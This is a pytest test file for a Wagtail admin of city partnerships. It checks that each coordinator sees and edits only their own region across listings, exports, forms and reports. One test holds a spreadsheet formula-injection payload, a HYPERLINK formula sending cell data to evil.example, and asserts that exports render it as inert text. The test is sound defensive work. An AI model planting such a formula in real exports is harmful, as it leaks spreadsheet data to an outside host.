"""Partnership coordinators in the Wagtail admin: their own region only, on every door the
partnerships viewsets and hooks register (listings, exports, filters, forms, edit, delete,
history, usage, report), from the attacker's side too; the report; creating a partnership with
its cities and results framework."""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import URLPattern, resolve, reverse
from openpyxl import load_workbook
from wagtail import hooks
from wagtail.admin.viewsets import viewsets as registered_viewsets
from wagtail.models import ModelLogEntry

from partnerships import services
from partnerships.models import (
    Exchange,
    Indicator,
    Measurement,
    Municipality,
    Objective,
    Official,
    Partnership,
    PartnershipMember,
)
from tests.factories import (
    MunicipalityFactory,
    UserFactory,
    make_coordinator,
    make_partnership,
    topic,
)

PARTNERSHIPS = "/admin/city_partnerships"
MUNICIPALITIES = "/admin/municipalities"
REPORT = "/admin/reports/partnerships/"

# Every partnership and person of the Latin American side has this in its name, and nothing
# else does; its cities have FOREIGN_CITY (a public directory: a partnership may link cities
# of any region, so the partnership form may name them).
FOREIGN = "Lejan"
FOREIGN_CITY = "Remot"
# Every name of the European side contains one of these.
OWN = "Blízk"
OWN_CITY = "Domác"


@dataclass
class Side:
    coordinator: object
    partnership: Partnership
    cities: list[Municipality]

    def objects(self, model) -> list:
        return {Partnership: [self.partnership], Municipality: self.cities}.get(model, [])


def _side(region: str, *, country: str, partnership: str, coordinator: str, cities: list[str]):
    coordinator_user = make_coordinator(region, full_name=coordinator)
    municipalities = [
        MunicipalityFactory(name_en=name, region=region, country=country) for name in cities
    ]
    return Side(
        coordinator=coordinator_user,
        partnership=make_partnership(
            region=region,
            title_en=partnership,
            mentor_city=municipalities[0],
            partner_city=municipalities[1],
            coordinators=[coordinator_user],
        ),
        cities=municipalities,
    )


@pytest.fixture
def latam(db):
    return _side(
        "latin_america",
        country="MX",
        partnership="Alianza Lejana",
        coordinator="Carla Lejana",
        cities=["Ciudad Remota", "Villa Remota"],
    )


@pytest.fixture
def europe(db):
    return _side(
        "europe",
        country="SK",
        partnership="Partnerstvo Blízke",
        coordinator="Zora Blízka",
        cities=["Mesto Domáce", "Obec Domáca"],
    )


def _body(response) -> str:
    """The text a user gets: the page, or every cell of a CSV or XLSX export."""
    if response.get("Content-Type", "").startswith("application/vnd.openxmlformats"):
        return "\n".join(
            "\t".join("" if cell is None else str(cell) for cell in row) for row in _xlsx(response)
        )
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _xlsx(response) -> list[tuple]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_body(response))))


def _snapshot() -> dict:
    return {
        "partnerships": list(Partnership.objects.order_by("pk").values()),
        "coordinators": list(Partnership.coordinators.through.objects.order_by("pk").values()),
        "municipalities": list(Municipality.objects.order_by("pk").values()),
        "focal_points": list(Municipality.focal_points.through.objects.order_by("pk").values()),
        "members": list(PartnershipMember.objects.order_by("pk").values()),
        "objectives": list(Objective.objects.order_by("pk").values()),
        "indicators": list(Indicator.objects.order_by("pk").values()),
        "log": ModelLogEntry.objects.count(),
    }


# ----------------------------------------------------------------------------- listings


@pytest.mark.django_db
def test_listings_and_exports_show_only_the_coordinators_region(client, latam, europe):
    client.force_login(europe.coordinator)
    for base in (PARTNERSHIPS, MUNICIPALITIES):
        for query in ("", "?export=csv", "?export=xlsx", "?region=latin_america"):
            response = client.get(f"{base}/{query}")
            assert response.status_code == 200, query
            body = _body(response)
            assert FOREIGN not in body and FOREIGN_CITY not in body, f"{base}/{query}"
            if "region=" not in query:
                assert (OWN in body) if base == PARTNERSHIPS else (OWN_CITY in body), query
    # The region filter offers only the coordinator's region (and "All").
    filters = client.get(f"{PARTNERSHIPS}/").context["filters"].form.fields
    assert [value for value, _label in filters["region"].choices if value] == ["europe"]
    filters = client.get(f"{MUNICIPALITIES}/").context["filters"].form.fields
    assert [value for value, _label in filters["region"].choices if value] == ["europe"]
    assert [value for value, _label in filters["country"].choices if value] == ["SK"]


@pytest.mark.django_db
def test_exports_hold_labels_and_the_listing_links_to_the_status_page(client, europe):
    client.force_login(europe.coordinator)
    rows = _csv(client.get(f"{PARTNERSHIPS}/?export=csv"))
    assert rows[1][0] == "Partnerstvo Blízke"
    assert "Europe (Bratislava office)" in rows[1] and "Active" in rows[1]
    rows = _csv(client.get(f"{MUNICIPALITIES}/?export=csv"))
    assert ["Mesto Domáce", "Slovakia", "Europe (Bratislava office)"] == [
        rows[1][0],
        rows[1][2],
        rows[1][3],
    ]
    html = client.get(f"{PARTNERSHIPS}/").content.decode()
    detail = reverse("partnerships:detail", args=[europe.partnership.slug])
    assert f'href="{detail}#status-heading"' in html


@pytest.mark.django_db
def test_a_formula_in_a_title_is_exported_as_text(client, europe):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    make_partnership(region="europe", title_en=formula)
    client.force_login(europe.coordinator)
    for url in (f"{PARTNERSHIPS}/?export=csv", f"{REPORT}?export=csv"):
        cells = [cell for row in _csv(client.get(url)) for cell in row]
        assert "'" + formula in cells, url
        assert formula not in cells, url
    for url in (f"{PARTNERSHIPS}/?export=xlsx", f"{REPORT}?export=xlsx"):
        response = client.get(url)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
        assert cells and all(cell.data_type == "s" for cell in cells), url


# ----------------------------------------------------------------------------- doors


@pytest.mark.django_db
def test_another_regions_objects_are_refused_on_every_view(client, latam, europe):
    client.force_login(europe.coordinator)
    before = _snapshot()
    objects = [
        (PARTNERSHIPS, latam.partnership, {"title_en": "Robada", "region": "europe"}),
        (MUNICIPALITIES, latam.cities[0], {"name_en": "Robada", "region": "europe"}),
    ]
    for base, obj, data in objects:
        for view in ("edit", "delete", "history", "history-results", "usage", "copy", "inspect"):
            url = f"{base}/{view}/{obj.pk}/"
            response = client.get(url)
            assert response.status_code == 404, url
            assert FOREIGN not in response.content.decode(), url
        assert client.post(f"{base}/edit/{obj.pk}/", data).status_code == 404
        assert client.post(f"{base}/delete/{obj.pk}/").status_code == 404
    assert _snapshot() == before
    # The same pages open for the coordinator of Latin America: the region rule refuses.
    client.force_login(latam.coordinator)
    for base, obj, _data in objects:
        for view in ("edit", "delete", "history", "usage"):
            assert client.get(f"{base}/{view}/{obj.pk}/").status_code == 200, (base, view)


@pytest.mark.django_db
def test_a_coordinator_creates_partnerships_only_in_their_region(client, latam, europe):
    client.force_login(europe.coordinator)
    form = client.get(f"{PARTNERSHIPS}/new/").context["form"]
    assert [value for value, _label in form.fields["region"].choices] == ["europe"]
    assert set(form.fields["coordinators"].queryset) == {europe.coordinator}
    assert "status" not in form.fields and "ended_reason" not in form.fields
    data = _new_partnership_data(europe.cities, region="latin_america", slug="sneaky")
    response = client.post(f"{PARTNERSHIPS}/new/", data)
    assert response.status_code == 200
    assert "region" in response.context["form"].errors
    data = _new_partnership_data(europe.cities, slug="sneaky-2")
    data["coordinators"] = [latam.coordinator.pk]
    response = client.post(f"{PARTNERSHIPS}/new/", data)
    assert response.status_code == 200
    assert "coordinators" in response.context["form"].errors
    assert not Partnership.objects.filter(slug__startswith="sneaky").exists()
    # In their own region it works, and the new partnership is theirs.
    data = _new_partnership_data(europe.cities, slug="own")
    assert client.post(f"{PARTNERSHIPS}/new/", data).status_code == 302
    created = Partnership.objects.get(slug="own")
    assert (created.region, created.status) == ("europe", "proposed")


@pytest.mark.django_db
def test_a_coordinator_creates_municipalities_only_in_their_region(client, europe):
    client.force_login(europe.coordinator)
    form = client.get(f"{MUNICIPALITIES}/new/").context["form"]
    assert [value for value, _label in form.fields["region"].choices] == ["europe"]
    data = {
        "name_en": "Nové Mesto",
        "slug": "nove-mesto",
        "country": "SK",
        "region": "latin_america",
        "population": "12000",
        "kind": "town",
        "languages": ["sk", "hu"],
    }
    assert client.post(f"{MUNICIPALITIES}/new/", data).status_code == 200
    assert not Municipality.objects.filter(slug="nove-mesto").exists()
    data["region"] = "europe"
    assert client.post(f"{MUNICIPALITIES}/new/", data).status_code == 302
    created = Municipality.objects.get(slug="nove-mesto")
    assert (created.name_en, created.region, created.languages) == (
        "Nové Mesto",
        "europe",
        ["sk", "hu"],
    )


@pytest.mark.django_db
def test_focal_points_are_chosen_among_the_municipalitys_confirmed_officials(client, europe):
    city = europe.cities[0]
    confirmed = UserFactory(full_name="Ján Overený")
    waiting = UserFactory(full_name="Pavol Čakajúci")
    stranger = UserFactory(full_name="Cudzí Človek")
    Official.objects.create(municipality=city, user=confirmed, position="Mayor", status="confirmed")
    Official.objects.create(municipality=city, user=waiting, position="Clerk")
    client.force_login(europe.coordinator)
    form = client.get(f"{MUNICIPALITIES}/edit/{city.pk}/").context["form"]
    assert set(form.fields["focal_points"].queryset) == {confirmed}
    data = _form_data(form)
    data["focal_points"] = [stranger.pk]
    assert client.post(f"{MUNICIPALITIES}/edit/{city.pk}/", data).status_code == 200
    data["focal_points"] = [confirmed.pk]
    assert client.post(f"{MUNICIPALITIES}/edit/{city.pk}/", data).status_code == 302
    assert list(city.focal_points.all()) == [confirmed]


@pytest.mark.django_db
def test_a_municipality_in_a_partnership_is_not_deleted(client, europe):
    client.force_login(europe.coordinator)
    city = europe.cities[0]
    response = client.post(f"{MUNICIPALITIES}/delete/{city.pk}/", follow=True)
    assert response.status_code == 200
    # Refused with a message: Wagtail's own refusal where its reference index knows the
    # partnership, else ours (a city only an exchange still refers to, for example).
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    assert Municipality.objects.filter(pk=city.pk).exists()
    # A city that left the partnership but hosted one of its exchanges stays too.
    host, visitors = europe.cities
    Exchange.objects.create(
        partnership=europe.partnership,
        host=host,
        visitors=visitors,
        starts_on=datetime.date(2025, 3, 1),
        ends_on=datetime.date(2025, 3, 3),
        purpose="Study visit",
    )
    PartnershipMember.objects.filter(municipality=host).delete()
    response = client.post(f"{MUNICIPALITIES}/delete/{host.pk}/", follow=True)
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    assert Municipality.objects.filter(pk=host.pk).exists()
    spare = MunicipalityFactory(name_en="Prázdne Mesto")
    assert client.post(f"{MUNICIPALITIES}/delete/{spare.pk}/").status_code == 302
    assert not Municipality.objects.filter(pk=spare.pk).exists()


@pytest.mark.django_db
def test_signed_out_visitors_are_sent_to_sign_in(client, europe):
    urls = [
        f"{PARTNERSHIPS}/",
        f"{PARTNERSHIPS}/new/",
        f"{PARTNERSHIPS}/edit/{europe.partnership.pk}/",
        f"{MUNICIPALITIES}/",
        f"{MUNICIPALITIES}/edit/{europe.cities[0].pk}/",
        REPORT,
        f"{REPORT}?export=csv",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"], url
    response = client.post(f"{PARTNERSHIPS}/delete/{europe.partnership.pk}/")
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    assert Partnership.objects.filter(pk=europe.partnership.pk).exists()


@pytest.mark.django_db
def test_users_without_the_permissions_get_nothing(client, europe):
    before = _snapshot()
    # A learner is sent to the sign-in page.
    client.force_login(UserFactory(region="europe"))
    for url in (f"{PARTNERSHIPS}/", REPORT):
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"], url
    # Staff of the region with admin access but no partnership permissions: refused.
    staff = UserFactory(region="europe", is_staff=True, full_name="Staff Member")
    staff.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(staff)
    home = client.get("/admin/").content.decode()
    assert "City-to-city partnerships" not in home and REPORT not in home
    urls = [
        f"{PARTNERSHIPS}/",
        f"{PARTNERSHIPS}/?export=csv",
        f"{PARTNERSHIPS}/new/",
        f"{PARTNERSHIPS}/edit/{europe.partnership.pk}/",
        f"{PARTNERSHIPS}/delete/{europe.partnership.pk}/",
        f"{PARTNERSHIPS}/history/{europe.partnership.pk}/",
        f"{MUNICIPALITIES}/",
        f"{MUNICIPALITIES}/edit/{europe.cities[0].pk}/",
        REPORT,
        f"{REPORT}?export=csv",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code in (302, 403, 404), url
        if response.status_code == 302:
            assert "/accounts/login/" not in response["Location"], url
        assert OWN not in _body(response).replace(staff.full_name, ""), url
    client.post(f"{PARTNERSHIPS}/delete/{europe.partnership.pk}/")
    client.post(f"{PARTNERSHIPS}/edit/{europe.partnership.pk}/", {"title_en": "Changed"})
    assert _snapshot() == before
    # The coordinator sees the menu.
    client.force_login(europe.coordinator)
    home = client.get("/admin/").content.decode()
    assert "City-to-city partnerships" in home and REPORT in home


# ----------------------------------------------------------------------------- every door


@dataclass(frozen=True)
class Route:
    name: str
    model: type | None


def _patterns(patterns) -> list[URLPattern]:
    for pattern in patterns:
        assert isinstance(pattern, URLPattern), f"walk the included URLs of {pattern} too"
    return list(patterns)


def partnership_admin_routes() -> list[Route]:
    """Every URL the partnerships viewsets and admin hooks register."""
    resolve("/admin/")  # loads the admin URLconf, which registers the viewsets
    viewsets = [
        viewset
        for viewset in registered_viewsets.viewsets
        if getattr(getattr(viewset, "model", None), "_meta", None) is not None
        and viewset.model._meta.app_label == "partnerships"
    ]
    assert {viewset.model for viewset in viewsets} == {Partnership, Municipality}
    routes = []
    for viewset in viewsets:
        for pattern in _patterns(viewset.get_urlpatterns()):
            args = set(pattern.pattern.converters)
            assert args <= {"pk"}, f"{pattern.name} takes {args}: teach this test"
            name = f"{viewset.url_namespace}:{pattern.name}"
            routes.append(Route(name, viewset.model if args else None))
    for register in hooks.get_hooks("register_admin_urls"):
        if register.__module__.startswith("partnerships."):
            for pattern in _patterns(register()):
                assert not pattern.pattern.converters, f"{pattern.name}: teach this test"
                routes.append(Route(pattern.name, None))
    return routes


KNOWN_VIEWS = {
    *(
        f"{namespace}:{view}"
        for namespace in ("city_partnerships", "municipalities")
        for view in ["index", "index_results", "add", "edit", "delete", "history", "usage"]
    ),
    "city_partnerships:history_results",
    "partnerships_report",
    "partnerships_report_results",
}


def _post_data(side: Side) -> dict:
    """Every field an admin form reads, pointing at ``side``: it would change something
    wherever it got through."""
    return {
        **_new_partnership_data(side.cities, region=side.partnership.region, slug="copia"),
        "name_en": "Copia",
        "country": "MX",
        "kind": "city",
        "focal_points": [side.coordinator.pk],
        "coordinators": [side.coordinator.pk],
        "status": "completed",
        "ended_reason": "x",
    }


@pytest.mark.django_db
def test_every_partnerships_admin_url_keeps_to_the_coordinators_region(client, latam, europe):
    """Each URL with each of Latin America's objects in it: Europe's coordinator is refused
    (on a URL without a pk: shown only Europe's rows and choices), GET and POST, and nothing
    changes; Latin America's coordinator gets the page."""
    routes = partnership_admin_routes()
    assert KNOWN_VIEWS <= {route.name for route in routes}, "the walk misses views"
    own = Client()
    own.force_login(latam.coordinator)
    client.force_login(europe.coordinator)
    before = _snapshot()
    for route in routes:
        if route.model is None:
            urls = [reverse(route.name)]
        else:
            urls = [reverse(route.name, args=[obj.pk]) for obj in latam.objects(route.model)]
        for url in urls:
            queries = [""]
            if route.model is None:
                queries += ["?export=csv", "?export=xlsx", "?region=latin_america"]
                queries += [f"?topic={latam.partnership.topic_id}&export=csv"]
            for query in queries:
                where = f"GET {url}{query} ({route.name})"
                response = client.get(url + query)
                body = _body(response)
                if route.model is None:
                    assert response.status_code == 200, where
                else:
                    assert response.status_code == 404, f"{where}: {response.status_code}"
                assert FOREIGN not in body, where
                if route.name != "city_partnerships:add":
                    # The members of a partnership may be cities of any region.
                    assert FOREIGN_CITY not in body, where
                response = own.get(url + query)
                assert response.status_code == 200, f"{where} as the region's coordinator"
                if route.model is None and route.name not in KNOWN_FORMS:
                    own_body = _body(response)
                    assert FOREIGN in own_body or FOREIGN_CITY in own_body, where
            where = f"POST {url} ({route.name})"
            response = client.post(url, _post_data(latam))
            if route.model is None:
                assert response.status_code in (200, 405), where
            else:
                assert response.status_code == 404, where
            assert FOREIGN not in _body(response), where
            assert _snapshot() == before, f"{where} changed something"


KNOWN_FORMS = {"city_partnerships:add", "municipalities:add"}


# ----------------------------------------------------------------------------- the report


def _measure(indicator, value, days_ago):
    return Measurement.objects.create(
        indicator=indicator,
        measured_on=datetime.date.today() - datetime.timedelta(days=days_ago),
        value=Decimal(value),
        source="Utility records",
    )


@pytest.mark.django_db
def test_report_rows_are_the_coordinators_with_progress_towards_targets(client, latam, europe):
    # Baseline 30, target 15: 24 is 40 % of the way, 15 is 100 %; one indicator unmeasured.
    partnership = make_partnership(region="europe", title_en="Voda Blízka", indicators=3)
    first, second, _third = Indicator.objects.filter(objective__partnership=partnership)
    _measure(first, "27", days_ago=60)
    _measure(first, "24", days_ago=10)
    _measure(second, "15", days_ago=30)
    _measure(Indicator.objects.filter(objective__partnership=latam.partnership)[0], "20", 5)
    client.force_login(europe.coordinator)
    response = client.get(REPORT)
    assert response.status_code == 200
    rows = {row.title: row for row in response.context["object_list"]}
    assert set(rows) == {"Partnerstvo Blízke", "Voda Blízka"}
    row = rows["Voda Blízka"]
    assert (row.indicators, row.average_progress) == (3, 70)
    assert row.latest_measurement == datetime.date.today() - datetime.timedelta(days=10)
    assert (row.region, row.topic, row.status) == (
        "Europe (Bratislava office)",
        "Finance",
        "Active",
    )
    untouched = rows["Partnerstvo Blízke"]
    assert (untouched.indicators, untouched.average_progress) == (1, None)
    assert untouched.latest_measurement is None
    html = response.content.decode()
    assert "Voda Blízka" in html and FOREIGN not in html
    assert reverse("city_partnerships:edit", args=[partnership.pk]) in html
    # Filters narrow the rows; the exports hold the same rows.
    response = client.get(f"{REPORT}?status=proposed")
    assert list(response.context["object_list"]) == []
    rows = _csv(client.get(f"{REPORT}?export=csv"))
    assert rows[0][:2] == ["Partnership", "Region"]
    assert sorted(row[0] for row in rows[1:]) == ["Partnerstvo Blízke", "Voda Blízka"]
    assert ["Voda Blízka", "Europe (Bratislava office)", "Finance", "Active", "3", "70"] == [
        row for row in rows if row[0] == "Voda Blízka"
    ][0][:6]
    sheet = _xlsx(client.get(f"{REPORT}?export=xlsx"))
    assert sorted(row[0] for row in sheet[1:]) == ["Partnerstvo Blízke", "Voda Blízka"]
    # A superuser sees every region.
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    titles = {row.title for row in client.get(REPORT).context["object_list"]}
    assert titles == {"Partnerstvo Blízke", "Voda Blízka", "Alianza Lejana"}


def _add_partnerships(count, measured=True):
    for _ in range(count):
        partnership = make_partnership(region="europe", indicators=2)
        if measured:
            for indicator in Indicator.objects.filter(objective__partnership=partnership):
                _measure(indicator, "25", days_ago=3)
                _measure(indicator, "20", days_ago=1)


@pytest.mark.django_db
def test_listings_and_report_run_a_fixed_number_of_queries(
    client, europe, django_assert_max_num_queries
):
    client.force_login(europe.coordinator)
    urls = [
        f"{PARTNERSHIPS}/",
        f"{PARTNERSHIPS}/?export=csv",
        f"{MUNICIPALITIES}/",
        REPORT,
        f"{REPORT}?export=csv",
        f"{REPORT}?export=xlsx",
    ]

    def queries(url):
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
            assert response.status_code == 200
            _body(response)  # a streamed export runs its queries while it is read
        return len(captured.captured_queries)

    _add_partnerships(2)
    small = {url: queries(url) for url in urls}
    _add_partnerships(10)
    assert {url: queries(url) for url in urls} == small
    with django_assert_max_num_queries(small[REPORT]):
        response = client.get(REPORT)
    assert len(response.context["object_list"]) == 13


# ----------------------------------------------------------------------------- forms


def _new_partnership_data(cities, *, region="europe", slug="agua") -> dict:
    """A new partnership with two member cities, one objective and one indicator."""
    return {
        "title_en": "Water for all",
        "title_es": "Agua para todos",
        "slug": slug,
        "topic": topic("water").pk,
        "region": region,
        "starts_on": "2025-01-01",
        "ends_on": "2027-12-31",
        "problem_en": "Water losses are high.",
        "problem_sk": "Straty vody sú vysoké.",
        "members-TOTAL_FORMS": "2",
        "members-INITIAL_FORMS": "0",
        "members-MIN_NUM_FORMS": "0",
        "members-MAX_NUM_FORMS": "1000",
        "members-0-municipality": cities[0].pk,
        "members-0-role": "mentor",
        "members-1-municipality": cities[1].pk,
        "members-1-role": "partner",
        "objectives-TOTAL_FORMS": "1",
        "objectives-INITIAL_FORMS": "0",
        "objectives-MIN_NUM_FORMS": "0",
        "objectives-MAX_NUM_FORMS": "1000",
        "objectives-0-title_en": "Cut water losses",
        "objectives-0-indicators-TOTAL_FORMS": "1",
        "objectives-0-indicators-INITIAL_FORMS": "0",
        "objectives-0-indicators-MIN_NUM_FORMS": "0",
        "objectives-0-indicators-MAX_NUM_FORMS": "1000",
        "objectives-0-indicators-0-name_en": "Non-revenue water",
        "objectives-0-indicators-0-name_zh_hans": "无收益水",
        "objectives-0-indicators-0-unit_en": "%",
        "objectives-0-indicators-0-baseline": "30",
        "objectives-0-indicators-0-baseline_on": "2024-12-31",
        "objectives-0-indicators-0-target": "15",
        "objectives-0-indicators-0-target_on": "2027-12-31",
        "objectives-0-indicators-0-source": "Utility records",
    }


def _form_data(form) -> dict:
    """The POST data of an unbound admin form as shown, its inline formsets included."""
    data = {}
    for bound in form:
        value = bound.value()
        if value is None:
            value = ""
        elif isinstance(value, bool):
            if not value:
                continue
            value = "on"
        elif isinstance(value, (list, tuple)):
            value = [getattr(item, "pk", item) for item in value]
        elif isinstance(value, datetime.date):
            value = value.isoformat()
        data[bound.html_name] = value
    for formset in getattr(form, "formsets", {}).values():
        for bound in formset.management_form:
            data[bound.html_name] = bound.value()
        for child in formset.forms:
            data.update(_form_data(child))
    return data


@pytest.mark.django_db
def test_a_superuser_creates_a_partnership_with_its_cities_and_results_framework(client):
    cities = [MunicipalityFactory(name_en="Košice"), MunicipalityFactory(name_en="Prešov")]
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    assert client.get(f"{PARTNERSHIPS}/new/").status_code == 200
    response = client.post(f"{PARTNERSHIPS}/new/", _new_partnership_data(cities))
    assert response.status_code == 302, response.context["form"].errors
    partnership = Partnership.objects.get(slug="agua")
    assert (partnership.title_en, partnership.title_es) == ("Water for all", "Agua para todos")
    assert (partnership.status, partnership.region) == ("proposed", "europe")
    assert sorted((m.municipality.name, m.role) for m in partnership.members.all()) == [
        ("Košice", "mentor"),
        ("Prešov", "partner"),
    ]
    objective = partnership.objectives.get()
    assert objective.title_en == "Cut water losses"
    indicator = objective.indicators.get()
    assert (indicator.name_en, indicator.name_zh_hans, indicator.unit_en) == (
        "Non-revenue water",
        "无收益水",
        "%",
    )
    assert (indicator.baseline, indicator.target) == (Decimal("30"), Decimal("15"))
    assert indicator.target_on == datetime.date(2027, 12, 31)


@pytest.mark.django_db
def test_the_form_checks_the_dates_and_the_cities(client):
    cities = [MunicipalityFactory(), MunicipalityFactory()]
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    data = _new_partnership_data(cities)
    data["objectives-0-indicators-0-target_on"] = "2020-01-01"  # before the baseline
    assert client.post(f"{PARTNERSHIPS}/new/", data).status_code == 200
    data = _new_partnership_data(cities)
    data["ends_on"] = "2024-01-01"  # before the start
    assert client.post(f"{PARTNERSHIPS}/new/", data).status_code == 200
    data = _new_partnership_data(cities)
    data["members-1-municipality"] = cities[0].pk  # the same city on both sides
    assert client.post(f"{PARTNERSHIPS}/new/", data).status_code == 200
    assert not Partnership.objects.exists()


@pytest.mark.django_db
def test_editing_keeps_the_status_and_the_focal_points(client, europe):
    partnership = europe.partnership
    focal_point = UserFactory(full_name="Mária Kontaktná")
    member = partnership.members.get(role="partner")
    Official.objects.create(
        municipality=member.municipality, user=focal_point, position="Planner",
        status="confirmed",
    )
    member.focal_points.add(focal_point)
    member.save()
    client.force_login(europe.coordinator)
    form = client.get(f"{PARTNERSHIPS}/edit/{partnership.pk}/").context["form"]
    data = _form_data(form)
    data.update(title_sk="Partnerstvo Blízke (SK)", status="completed", ended_reason="x")
    response = client.post(f"{PARTNERSHIPS}/edit/{partnership.pk}/", data)
    assert response.status_code == 302, response.context["form"].errors
    partnership.refresh_from_db()
    assert partnership.title_sk == "Partnerstvo Blízke (SK)"
    assert (partnership.status, partnership.ended_reason) == ("active", "")
    member.refresh_from_db()
    assert list(member.focal_points.all()) == [focal_point]
    assert partnership.objectives.get().indicators.count() == 1


@pytest.mark.django_db
def test_status_changes_show_in_the_history(client, europe):
    services.partnership_set_status(
        coordinator=europe.coordinator, partnership=europe.partnership, status="completed"
    )
    client.force_login(europe.coordinator)
    html = client.get(f"{PARTNERSHIPS}/history/{europe.partnership.pk}/").content.decode()
    assert "Changed the status from “Active” to “Completed”" in html


@pytest.mark.django_db
def test_focal_points_of_a_side_are_chosen_among_that_citys_people(client, europe):
    """The inline side form: an official of the city is accepted as its focal point; someone
    who does not work for it (a learner, an official of another city) is refused."""
    partnership = europe.partnership
    member = partnership.members.get(role="partner")
    official = UserFactory(full_name="Ján Úradník")
    Official.objects.create(
        municipality=member.municipality, user=official, position="Engineer",
        status="confirmed",
    )
    elsewhere = UserFactory(full_name="Cudzí Človek")
    Official.objects.create(
        municipality=MunicipalityFactory(), user=elsewhere, position="Clerk", status="confirmed"
    )
    client.force_login(europe.coordinator)
    url = f"{PARTNERSHIPS}/edit/{partnership.pk}/"
    form = client.get(url).context["form"]
    index = [f.instance.pk for f in form.formsets["members"].forms].index(member.pk)
    field = f"members-{index}-focal_points"

    data = _form_data(form)
    data[field] = [elsewhere.pk]
    response = client.post(url, data)
    assert response.status_code == 200
    assert "Cudzí Človek does not work for" in response.content.decode()
    member.refresh_from_db()
    assert not member.focal_points.exists()

    data[field] = [official.pk]
    assert client.post(url, data).status_code == 302
    member.refresh_from_db()
    assert list(member.focal_points.all()) == [official]
